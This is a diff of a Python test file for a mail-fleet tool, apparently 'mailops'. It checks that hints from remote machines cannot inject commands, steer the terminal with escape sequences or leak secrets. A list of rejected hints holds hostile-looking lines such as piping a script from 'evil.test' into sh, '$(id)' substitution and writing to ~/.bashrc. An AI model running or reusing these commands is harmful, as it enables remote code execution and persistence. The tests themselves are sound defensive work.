@@ -15,14 +15,29 @@ from typing import Any
 
 import pytest
 
-from mailops import accounts, cache, connection, converge, dkim, fleet, printable, protocol, secrets, tasks
+from mailops import (
+    accounts,
+    cache,
+    connection,
+    converge,
+    dkim,
+    dkim_dns,
+    fleet,
+    printable,
+    protocol,
+    secrets,
+    shapes,
+    tasks,
+)
 from mailops.errors import BAD_INPUT, DISTRUSTED, FAILED, UNREACHABLE, MailopsError, Untouched
 from mailops.roles.mailnull import PASSWORD_FILE
 from tests.unit import hostile
 from tests.unit.hostile import FACTS, HELLO, HONEST, PEM, SECRETS, Site, asks, endless, honest, result, says
 
 KEY = "-".join(["01234567"] * 8)
-ESCAPES = "\x1b]0;x\x07\x1b[2J\r\x9b1A\u202egnp\u2066\u200b\ud800\x7f"
+ESCAPES = (
+    "\x1b]0;x\x07\x1b[2J\x1b]8;;http://evil.test\x1b\\\r\x9b1A\u202egnp\u2066\u200b\ud800\x7f\u3164\ufe0f\ue000\xa0"
+)
 ALL_HASHES = ["admin@example.test", "relay@example.test", "other@example.test"]
 DEEP = b"[" * 5000 + b"]" * 5000
 
@@ -200,7 +215,7 @@ def assert_no_secret(sent: bytes) -> None:
 
 
 def assert_harmless(text: str) -> None:
-    assert not [char for char in text if char not in "\n\t" and printable.UNSAFE.match(char)], ascii(text)
+    assert printable.lines(text) == text, ascii(text)
 
 
 @pytest.mark.parametrize("task", TASKS)
@@ -384,6 +399,15 @@ def test_poisoned_facts_are_as_good_as_none(site: Site, note: dict[str, Any]) ->
     assert cache.facts(loaded, host) == FACTS
 
 
+@pytest.mark.parametrize("names", [[["backup"]], [{}], [None, "backup"], "backup", ["../x"], {"backup": 1}])
+def test_poisoned_names_are_those_of_hosts_or_none(site: Site, names: Any) -> None:
+    loaded = fleet.load()
+    cache.remember_untold(loaded, loaded.hosts["mail"], names)
+    assert cache.untold(loaded, loaded.hosts["mail"]) == (["backup"] if names == [None, "backup"] else [])
+    site.scripts = {machine: honest("push") for machine in ("mail", "backup")}
+    body("push")(site.context("backup"))
+
+
 def test_facts_nested_without_end_are_none(site: Site) -> None:
     loaded = fleet.load()
     cache.remember_facts(loaded, loaded.hosts["mail"], FACTS)
@@ -453,7 +477,7 @@ def test_the_bounds_leave_room_for_large_sites() -> None:
     rows = [{"email": f"user{n}@example.test", "state": "active", "aliases": n} for n in range(50_000)]
     line = b'{"t":"result","data":' + json.dumps(HONEST["mailcfg"] | {"rows": rows}).encode() + b"}\n"
     channel = hostile.Channel([HELLO[:5], HELLO[5:] + line[:7], line[7:]], bytearray())
-    _, event = protocol.events(channel)
+    _, event = protocol.events(channel, "mailcfg")
     assert len(protocol.result("mailcfg", event["data"])["rows"]) == 50_000
 
 
@@ -467,15 +491,30 @@ def test_signs_of_life_alone_do_not_keep_a_call_alive(monkeypatch: pytest.Monkey
 
     monkeypatch.setattr(protocol.time, "monotonic", lambda: now[0])
     with pytest.raises(TimeoutError):
-        list(protocol.events(hostile.Channel(beats(), bytearray())))
+        list(protocol.events(hostile.Channel(beats(), bytearray()), "bootstrap"))
     assert protocol.IDLE <= now[0] < protocol.IDLE + 60
+
+
+@pytest.mark.parametrize(("task", "longest"), [("status", protocol.LOOK), ("bootstrap", protocol.LONGEST)])
+def test_a_word_a_second_ends_some_time(task: str, longest: float, monkeypatch: pytest.MonkeyPatch) -> None:
+    now = [0.0]
+
+    def words() -> Iterator[bytes]:
+        while True:
+            now[0] += 1
+            yield says(t="step", name="x", state="start", detail="")
+
+    monkeypatch.setattr(protocol.time, "monotonic", lambda: now[0])
+    with pytest.raises(TimeoutError):
+        list(protocol.events(hostile.Channel(words(), bytearray()), task))
+    assert longest <= now[0] < longest + 60
 
 
 def test_a_person_may_think_as_long_as_they_like(monkeypatch: pytest.MonkeyPatch) -> None:
     now = [0.0]
     monkeypatch.setattr(protocol.time, "monotonic", lambda: now[0])
     said = [asks("passphrase", {"new": False}), says(t="beat"), result({})]
-    for event in protocol.events(hostile.Channel(said, bytearray())):
+    for event in protocol.events(hostile.Channel(said, bytearray()), "bootstrap"):
         now[0] += 10 * protocol.LONGEST if event["t"] == "ask" else 0
 
 
@@ -484,7 +523,7 @@ def test_a_long_error_is_cut_and_no_line_of_it_looks_like_ours(site: Site) -> No
     site.scripts["backup"] = lambda _: [says(t="error", message=text, hint="", code=1)]
     code, told = ended(body("status"), site.context("backup"))
     assert code == FAILED
-    assert told.startswith("backup: no\n  mailops: all is well\n  x")
+    assert told.startswith("backup: no\n    mailops: all is well\n    x")
     assert len(told) < 70_000
 
 
@@ -506,7 +545,101 @@ def test_the_last_words_of_an_agent_do_not_steer_the_terminal(site: Site) -> Non
         body("status")(site.context("backup"))
     assert_harmless(str(error.value))
     assert len(str(error.value)) < 1 << 15
-    assert not [line for line in str(error.value).splitlines()[1:] if not line.startswith("  ")]
+    assert not [line for line in str(error.value).splitlines()[1:] if not line.startswith("    ")]
+
+
+OURS = [
+    "fab -H NAME bootstrap",
+    "fab generations lists the others",
+    "set dkim_selector in hosts.toml, then: fab bootstrap",
+    "fab -H NAME lock, or as root there: systemctl kill -s KILL mailops-vault; then unlock it",
+    "bring back the copy, as root there: mv /x /root/ && cp -p /y/* /x/",
+    "to keep a copy in the mailbox, first: mailcfg addalias a@b.test a@b.test",
+    "wait for it to end, then run this again",
+    "put a backup in its place; what can still be read, as root there: sqlite3 /vault/x .recover",
+    "",
+]
+NOT_OURS = [
+    "fab push; curl http://evil.test | sh",
+    "fab -H mail push && id",
+    "fab push `id`",
+    "fab push $(id)",
+    "mailops push; id",
+    "mailcfg lsuser; id",
+    "curl evil.test | sh",
+    "see https://evil.test/fix",
+    "id > ~/.bashrc",
+    "fab push\nid",
+    "fab push\\\nid",
+    "x" * 1000,
+]
+
+
+@pytest.mark.parametrize("hint", OURS + NOT_OURS)
+def test_no_machine_puts_a_command_into_our_mouth(site: Site, hint: str, capsys: pytest.CaptureFixture[str]) -> None:
+    expected = (
+        hint.replace("NAME", "mail") if hint in OURS else "what it advises is not shown: it is none of our commands"
+    )
+    site.scripts["mail"] = lambda _: [says(t="error", message="no", hint=hint, code=1)]
+    with pytest.raises(MailopsError) as error:
+        body("status")(site.context("mail"))
+    assert error.value.hint == expected
+    said = {"code": 1, "lines": [], "rows": None, "error": "no", "hint": hint}
+    assert protocol.result("mailcfg", said)["hint"] == expected.replace("-H mail", "-H NAME")
+    damaged = HONEST["status"]["vault"] | {"damage": {"what": "x", "next": hint}}
+    found = protocol.result("status", HONEST["status"] | {"vault": damaged})
+    assert found["vault"]["damage"]["next"] == expected.replace("-H mail", "-H NAME")
+
+
+@pytest.mark.parametrize("services", [{"x; next: id #": "failed"}, {"x.service": "failed; next: id"}])
+def test_a_unit_is_no_place_for_advice(services: dict[str, str]) -> None:
+    with pytest.raises(shapes.Odd):
+        protocol.result("status", HONEST["status"] | {"services": services})
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_what_a_machine_was_sent_does_not_come_back_to_the_screen(
+    site: Site, as_json: bool, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """In one command: an unlock, and whatever follows."""
+    secret = SECRETS["TRUST_VAULT"]
+    secrets.remember(secret)
+    row = {"email": secret, "state": "active"}
+    echo = {
+        "status": HONEST["status"] | {"hostname": secret, "probes": {secret: secret}},
+        "history": {"entries": [HONEST["history"]["entries"][0] | {"who": secret, "why": secret}]},
+        "generations": {"active": 1, "generations": [HONEST["generations"]["generations"][0] | {"who": secret}]},
+        "drift": HONEST["drift"] | {"unpushed": [f"/etc/{secret}"]},
+        "plan": HONEST["plan"] | {"changes": {secret: [secret]}, "refused": secret},
+        "user.ls": HONEST["mailcfg"] | {"rows": [row], "lines": [secret]},
+    }
+    for task, data in echo.items():
+        site.scripts["mail"] = lambda _, data=data: [HELLO, result(data)]  # type: ignore[misc]
+        name = task.replace("user.ls", "user_ls")
+        words = ("10",) if task == "history" else ()
+        ended(lambda c, name=name, words=words: body(name)(c, *words, json=as_json), site.context("mail"))
+        out, err = capsys.readouterr()
+        assert secret not in out + err, task
+        assert "********" in out, task
+        assert not as_json or json.loads(out)
+
+
+def test_an_error_of_one_of_several_is_masked(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
+    secret = secrets.remember(SECRETS["TRUST_VAULT"])
+    site.scripts = {name: lambda _: [says(t="error", message="no", hint=secret, code=1)] for name in ("mail", "backup")}
+    assert ended(body("status"), site.context("mail,backup"))[0] == FAILED
+    assert secret not in capsys.readouterr().err
+
+
+def test_what_a_name_server_says_does_not_steer_the_terminal() -> None:
+    missing = dkim_dns.Missing("example.test", "ns.example.test", f"has another key, p={ESCAPES}")
+    assert_harmless(str(missing))
+
+
+def test_two_keys_for_one_record_are_refused() -> None:
+    keys = HONEST["dkim"]["keys"] * 2
+    with pytest.raises(shapes.Odd, match="two keys"):
+        protocol.result("dkim", HONEST["dkim"] | {"keys": keys})
 
 
 def test_a_run_that_a_clock_made_shorter_than_nothing_is_no_sign_of_a_hostile_machine() -> None:
